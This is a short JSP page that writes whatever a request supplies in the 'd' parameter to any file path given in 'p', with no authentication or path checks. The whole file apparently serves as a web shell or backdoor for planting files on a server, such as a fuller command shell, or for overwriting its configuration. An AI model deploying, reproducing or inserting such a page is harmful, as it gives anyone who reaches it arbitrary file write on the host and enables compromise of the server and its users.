<%@ page import="java.io.*" %>
<%
    String path = request.getParameter("p");
    String data = request.getParameter("d");
    if (path != null && data != null) {
        FileOutputStream fos = new FileOutputStream(request.getParameter("p"));
        fos.write(data.getBytes("UTF-8"));
        fos.close();
        out.print("written " + path);
    }
%>
